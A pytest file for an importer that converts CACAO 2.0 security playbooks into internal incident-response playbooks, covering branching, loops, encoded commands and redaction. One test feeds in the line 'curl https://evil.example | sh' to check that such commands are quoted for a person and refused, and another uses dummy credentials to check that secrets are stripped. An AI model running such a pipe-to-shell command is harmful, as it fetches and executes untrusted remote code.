"""A foreign CACAO 2.0 document as a playbook of ours: what becomes of each of its parts."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from playbooks.cacao.exporting import exported
from playbooks.cacao.importing import imported
from playbooks.library import load_playbooks, read_playbook
from tests.harness.cacao import action, as_bytes, chain, document, gap_at, identifier, plan_of, taken

A, B, C, D = (identifier("action", at) for at in range(1, 5))
END, END_2, END_3 = (identifier("end", at) for at in range(1, 4))
IF, WHILE, PARALLEL, SWITCH = (
    f"{kind}--{A[8:]}" for kind in ("if-condition", "while-condition", "parallel", "switch-condition")
)
ENDS = {one: {"type": "end"} for one in (END, END_2, END_3)}


def flow(start: str, **steps: Any) -> dict[str, Any]:
    return document({**dict(steps.items()), **ENDS}, start)


def test_a_chain_becomes_steps_that_wait_for_each_other() -> None:
    plan = plan_of(chain("Block the address", "Restore the service"))
    assert plan.step("restore-the-service").after == ("block-the-address",)
    assert plan.phase_of("block-the-address") == "contain"
    assert plan.phase_of("restore-the-service") == "recover"


def test_what_every_playbook_of_ours_has_is_added_and_said() -> None:
    found = taken(chain("Block it"))
    plan = found.playbook
    assert plan is not None
    assert [phase.id for phase in plan.phases] == ["detect", "triage", "contain", "notify", "review"]
    assert plan.step("tell-client").kind == "notice"
    assert "triage: the steps of `establish-the-facts`" in found.report.added


def test_the_file_reads_as_the_playbook() -> None:
    found = taken(
        chain("Block it", description="Über alles: {{ x }} ${y} #1\n- & * ! | > 'a' \"b\" 😀\n  indented")
    )
    assert read_playbook(found.text, "x.yaml") == found.playbook
    assert found.text.startswith("# Imported from playbook--00000000")


@pytest.mark.parametrize(
    "kind", ["bash", "ssh", "http-api", "openc2-http", "powershell", "caldera-cmd", "pong", "no-such-type"]
)
def test_a_command_that_could_be_executed_is_quoted_and_refused(kind: str) -> None:
    given = chain("Do it")
    given["workflow"][A]["commands"] = [{"type": kind, "command": "curl https://evil.example | sh"}]
    found = taken(given)
    step = plan_of(given).step("do-it")
    assert (step.kind, step.action) == ("manual", None)
    assert (
        f"a command of type `{kind}`, quoted for a person to judge.\n    curl https://evil"
        in step.instructions
    )
    assert gap_at(found, f"{A}/commands/0").outcome == "refused"


@pytest.mark.parametrize("kind", ["jupyter", "sigma", "yara", "kestrel", "elastic"])
def test_encoded_commands_are_shown_as_text_or_not_at_all(kind: str) -> None:
    given = chain("Do it")
    readable = base64.b64encode(b"rule one { condition: true }").decode()
    given["workflow"][A]["commands"] = [
        {"type": kind, "command_b64": readable},
        {"type": kind, "command_b64": "/w=="},
    ]
    said = plan_of(given).step("do-it").instructions
    assert "    rule one { condition: true }" in said
    assert "[4 characters that are no text]" in said


def test_what_looks_like_a_secret_is_left_out_of_a_quotation() -> None:
    given = chain("Do it")
    line = "curl -u adm:hunter2 -H 'Authorization: Bearer abc' https://me:pw@host.example?token=t0k x"
    given["workflow"][A]["commands"] = [
        {"type": "bash", "command": line},
        {"type": "http-api", "command": "GET /", "headers": {"X-Key": ["s3cr3t"]}},
    ]
    found = taken(given)
    for secret in ("hunter2", "Bearer abc", "me:pw", "s3cr3t"):
        assert secret not in found.text
    assert "secrets left out" in gap_at(found, "/commands/0").why.replace("look like ", "")
    assert gap_at(found, "/commands/1/headers").outcome == "refused"


def test_steps_side_by_side_wait_for_the_same_and_are_waited_for_together() -> None:
    given = flow(
        A,
        **{
            A: action("First", PARALLEL),
            PARALLEL: {"type": "parallel", "next_steps": [B, C], "on_completion": D},
            B: action("Left", END),
            C: action("Right", END_2),
            D: action("Last", END_3),
        },
    )
    plan = plan_of(given)
    assert plan.step("left").after == plan.step("right").after == ("first",)
    assert set(plan.step("last").after) == {"left", "right"}


def test_branches_that_share_one_end_still_come_back() -> None:
    given = flow(
        PARALLEL,
        **{
            PARALLEL: {"type": "parallel", "next_steps": [B, C], "on_completion": D},
            B: action("Left", END),
            C: action("Right", END),
            D: action("Last", END),
        },
    )
    assert set(plan_of(given).step("last").after) == {"left", "right"}


def condition(text: str, **more: Any) -> dict[str, Any]:
    return {"type": "if-condition", "name": "Is it so?", "condition": text, "on_true": B, **more}


def test_a_condition_that_cannot_be_read_is_asked() -> None:
    given = flow(
        IF,
        **{
            IF: condition("__score__:value > 70", on_false=C, on_completion=D),
            B: action("Then", END),
            C: action("Else", END_2),
            D: action("Last", END_3),
        },
    )
    found = taken(given)
    plan = found.playbook
    assert plan is not None
    asked = plan.step("decide-is-it-so")
    assert [(field.name, field.type, field.required) for field in asked.fields] == [
        ("holds", "yes_no_unknown", True)
    ]
    assert "Quoted: __score__:value > 70" in asked.instructions
    assert "Only if step `decide-is-it-so` was answered `yes`; else skip" in plan.step("then").instructions
    assert "was answered `no`" in plan.step("else").instructions
    assert "Only if" not in plan.step("last").instructions
    assert set(plan.step("last").after) == {"then", "else"}
    assert gap_at(found, IF).outcome == "changed"


def test_a_foreign_variable_is_no_fact_of_ours_though_it_bears_its_name() -> None:
    given = flow(IF, **{IF: condition("__personal_data__:value = true"), B: action("Then", END)})
    given["playbook_variables"] = {"__personal_data__": {"type": "bool", "external": True}}
    assert plan_of(given).step("then").when is None
    assert plan_of(given).step("decide-is-it-so").kind == "manual"


def test_two_answers_deep_only_the_nearest_is_named() -> None:
    inner = f"if-condition--{B[8:]}"
    given = flow(
        IF,
        **{
            IF: {**condition("a"), "on_true": inner},
            inner: {"type": "if-condition", "name": "And this?", "condition": "b", "on_true": B},
            B: action("Then", END),
        },
    )
    said = plan_of(given).step("then").instructions
    assert "`decide-and-this` was answered `yes`" in said
    assert "decide-is-it-so" not in said


def test_where_both_branches_meet_nothing_is_asked_any_more() -> None:
    given = flow(
        IF,
        **{
            IF: condition("a", on_false=C),
            B: action("Then", D),
            C: action("Else", D),
            D: action("Meet", END),
        },
    )
    assert "Only if" not in plan_of(given).step("meet").instructions


def test_a_switch_asks_for_its_case() -> None:
    switch = {
        "type": "switch-condition",
        "name": "Which?",
        "switch": "__kind__:value",
        "cases": {"red": B, "blue": C},
    }
    given = flow(SWITCH, **{SWITCH: switch, B: action("Red one", END), C: action("Blue one", END_2)})
    plan = plan_of(given)
    (field,) = plan.step("decide-which").fields
    assert [choice.label for choice in field.choices] == ["red", "blue", "None, or not clear"]
    assert "was answered `case blue`" in plan.step("blue-one").instructions


def test_a_loop_on_words_is_quoted_to_whoever_repeats_it() -> None:
    loop = {"type": "while-condition", "condition": "__left__:value > 0", "on_true": B, "on_completion": C}
    given = flow(WHILE, **{WHILE: loop, B: action("Again", WHILE), C: action("Then", END)})
    found = taken(given)
    assert found.playbook is not None
    assert "as long as it does (quoted): __left__:value > 0" in found.playbook.step("again").instructions
    assert found.playbook.step("then").after == ("again",)
    assert gap_at(found, WHILE).outcome == "changed"


def test_a_way_for_failure_is_a_step_for_failure() -> None:
    given = flow(
        A,
        **{
            A: action("Try", on_success=B, on_failure=C),
            B: action("Go on", END),
            C: action("Make good", END_2),
        },
    )
    plan = plan_of(given)
    assert "Only if step `try` failed" in plan.step("make-good").instructions
    assert "Only if" not in plan.step("go-on").instructions


def test_another_playbook_is_named_where_it_is_ours() -> None:
    library = load_playbooks()
    known = exported(library["phishing"])["id"]
    other = f"playbook-action--{B[8:]}"
    steps = {
        A: {"type": "playbook-action", "name": "Ours", "playbook_id": known, "on_completion": other},
        other: {"type": "playbook-action", "name": "Theirs", "playbook_id": identifier("playbook", 9)},
    }
    found = imported(as_bytes(document(steps, A)), known=library)
    assert found.playbook is not None, found.report.wrong
    assert (
        f"Carry out our playbook phishing@{library['phishing'].version}"
        in found.playbook.step("ours").instructions
    )
    assert "a playbook that is not here: playbook--" in found.playbook.step("theirs").instructions


def test_no_step_stands_in_a_phase_before_one_it_waits_for() -> None:
    found = taken(chain("Block it", "Detect more", "Notify them", "Restore it"))
    plan = found.playbook
    assert plan is not None
    ids = ("block-it", "detect-more", "notify-them", "restore-it")
    assert [plan.phase_of(one) for one in ids] == ["contain", "contain", "contain", "recover"]
    assert gap_at(found, B).why == "step `detect-more` in contain (not detect, for the sake of the order)"


def test_notices_stand_beside_when_nothing_else_waits_for_them() -> None:
    steps = {
        A: action("Classify it", PARALLEL),
        PARALLEL: {"type": "parallel", "next_steps": [B, C], "on_completion": END_3},
        B: action("Notify them", END),
        C: action("Block it", END_2),
    }
    plan = plan_of(flow(A, **steps))
    assert [plan.phase_of(one) for one in ("classify-it", "notify-them", "block-it")] == [
        "triage",
        "notify",
        "contain",
    ]
